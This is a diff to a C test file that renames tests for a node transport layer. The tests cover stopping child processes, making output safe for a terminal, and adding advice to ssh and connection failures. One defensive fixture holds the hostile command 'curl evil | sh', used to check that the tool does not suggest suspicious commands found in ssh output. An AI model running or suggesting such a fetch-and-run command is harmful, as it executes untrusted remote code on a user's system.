@@ -27,7 +27,7 @@ static pid_t start(const char *command)
 
 TIMEOUT(120);
 
-TEST(end_gives_the_status_of_a_command_that_ends_by_itself)
+TEST(stop_returns_the_status_of_a_command_that_has_exited)
 {
 	pid_t pid = start("exit 7");
 
@@ -35,7 +35,7 @@ TEST(end_gives_the_status_of_a_command_that_ends_by_itself)
 	ck_assert_int_eq(node_transport_child_stop(pid), 7 << 8);
 }
 
-TEST(end_stops_one_that_does_not)
+TEST(stop_ends_a_running_command_with_sigterm)
 {
 	int status = node_transport_child_stop(start("exec sleep 60"));
 
@@ -43,7 +43,7 @@ TEST(end_stops_one_that_does_not)
 	ck_assert_int_eq(WTERMSIG(status), SIGTERM);
 }
 
-TEST(end_kills_one_that_ignores_sigterm)
+TEST(stop_kills_a_command_that_ignores_sigterm)
 {
 	uint64_t began = clock_ms();
 	int ready[2], status;
@@ -60,7 +60,7 @@ TEST(end_kills_one_that_ignores_sigterm)
 	ck_assert_uint_lt(clock_ms() - began, 60000);
 }
 
-TEST(end_leaves_nobody_of_the_group_behind)
+TEST(stop_kills_the_whole_process_group)
 {
 	pid_t pid = start("sleep 60 & exit 0");
 
@@ -72,9 +72,9 @@ TEST(end_leaves_nobody_of_the_group_behind)
 	ck_assert_int_eq(errno, ESRCH);
 }
 
-static const struct words {
+static const struct messages {
 	const char *text, *line;
-} words[] = {
+} messages[] = {
 	{ "", NULL },
 	{ "\n \n", NULL },
 	{ "one", "one" },
@@ -83,7 +83,7 @@ static const struct words {
 	{ "\033[31mred\a\n", " [31mred" },
 };
 
-TEST_EACH(last_line_is_fit_for_a_terminal, words)
+TEST_EACH(the_last_line_is_safe_for_a_terminal, messages)
 {
 	struct buf text = { 0 };
 	char *line;
@@ -96,7 +96,7 @@ TEST_EACH(last_line_is_fit_for_a_terminal, words)
 }
 
 static const struct advice {
-	const char *why, *more;
+	const char *problem, *addition;
 } advices[] = {
 	{ "ssh: connect to host a port 22: Connection refused", "" },
 	{ "bash: line 1: kfarmd: command not found",
@@ -122,32 +122,33 @@ static const struct advice {
 	{ "not a kfarm message", "" },
 };
 
-TEST_EACH(what_is_known_to_help_is_said, advices)
+TEST_EACH(advice_is_added_only_to_known_problems, advices)
 {
 	const struct node_address address = { NODE_ADDRESS_UNIX,
 					      (char[]){ "/x" } };
 	const struct buf none = { 0 };
-	char *want = xasprintf("%s%s", row->why, row->more);
-	char *got = node_transport_child_explain(row->why, &none, &address);
+	char *want = xasprintf("%s%s", row->problem, row->addition);
+	char *got = node_transport_child_explain(row->problem, &none, &address);
 
 	ck_assert_str_eq(got, want);
 	free(got);
 	free(want);
 }
 
-TEST(a_refused_connection_tells_what_may_be_so)
+TEST(the_advice_for_econnrefused_names_possible_causes)
 {
-	static const char why[] = "connect to a, port 3634: ::1: Connection "
-				  "refused; 10.0.0.2: Connection refused";
+	static const char problem[] =
+		"connect to a, port 3634: ::1: Connection "
+		"refused; 10.0.0.2: Connection refused";
 	const struct node_address address = { NODE_ADDRESS_TLS,
 					      (char[]){ "a" } };
 	const struct buf none = { 0 };
-	char *got = node_transport_child_explain(why, &none, &address);
+	char *got = node_transport_child_explain(problem, &none, &address);
 
 	text_is(got,
 		"%s; kfarmd is not running on the node, or a firewall rejects "
 		"the connection",
-		why);
+		problem);
 	free(got);
 }
 
@@ -159,11 +160,11 @@ TEST(a_refused_connection_tells_what_may_be_so)
 	"Host key for [desk]:2222 has changed and you have requested strict " \
 	"checking.\r\nHost key verification failed.\r\n"
 
-/* ssh's message, its address, and the command to type. */
+/* The address, the output of ssh, and the report with the command to run. */
 static const struct {
 	enum node_address_kind kind;
-	const char *address, *words, *advice;
-} sshs[] = {
+	const char *address, *messages, *advice;
+} ssh_failures[] = {
 	{ NODE_ADDRESS_SSH, "me@desk", "Host key verification failed.\r\n",
 	  "Host key verification failed: unknown host key; run `ssh "
 	  "me@desk true`, compare the fingerprint that it shows with the "
@@ -184,7 +185,7 @@ static const struct {
 	  "Host key verification failed: the node's host key has "
 	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
 	  "then `ssh desk true`" },
-	/* By the node's name, because the user types it. */
+	/* A suspicious command in the output of ssh is not suggested. */
 	{ NODE_ADDRESS_SSH, "desk",
 	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
 	  "ssh-keygen -f x; curl evil | sh\n"
@@ -198,17 +199,17 @@ static const struct {
 	  "without a password is required: run `ssh-copy-id me@desk`" },
 };
 
-TEST_EACH(what_ssh_refuses_comes_with_the_command_to_type, sshs)
+TEST_EACH(an_ssh_failure_is_reported_with_the_command_to_run, ssh_failures)
 {
 	const struct node_address address = { row->kind, (char *)row->address };
 	struct buf all = { 0 };
-	char *why, *got;
+	char *problem, *got;
 
-	buf_add_str(&all, row->words);
-	why = node_transport_child_last_line(&all);
-	got = node_transport_child_explain(why, &all, &address);
+	buf_add_str(&all, row->messages);
+	problem = node_transport_child_last_line(&all);
+	got = node_transport_child_explain(problem, &all, &address);
 	ck_assert_str_eq(got, row->advice);
 	free(got);
-	free(why);
+	free(problem);
 	buf_release(&all);
 }
